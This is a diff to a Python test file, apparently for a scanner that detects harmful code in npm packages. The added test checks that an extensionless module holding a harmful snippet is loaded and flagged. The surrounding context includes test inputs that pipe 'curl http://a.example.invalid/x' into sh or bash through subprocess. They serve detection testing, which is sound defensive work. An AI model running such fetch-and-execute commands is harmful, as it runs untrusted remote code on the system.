@@ -126,6 +126,19 @@ def test_a_script_that_waits_for_whoever_starts_it(way: str) -> None:
     assert {one.reach for one in harm(WAITING[way], "npm")} == {Reach.CALL}
 
 
+@pytest.mark.parametrize("name", ["run", "tool/run"])
+def test_a_script_without_any_ending_is_loaded_by_its_bare_name(name: str) -> None:
+    files = {
+        "index.js": f"module.exports = require('./{name}');",
+        name: f"const one = require('os');\n{JS_HARM};\nmodule.exports = one;\n",
+        "LICENSE": "Everybody may use what module.exports holds.\n",
+    }
+    program = program_of("npm", files)
+    run = [one for one in program.flows if one.act is Act.RUN]
+    assert {(one.at.path, one.reach) for one in run} == {(f"package/{name}", Reach.IMPORT)}
+    assert "package/LICENSE" not in {one.path for one in program.modules}
+
+
 INPUTS = {
     "of a shell": "subprocess.run(['sh'], input=b'curl http://a.example.invalid/x | sh')",
     "of a shell in words": "subprocess.check_output('bash', input='curl http://a.example.invalid/x | sh')",
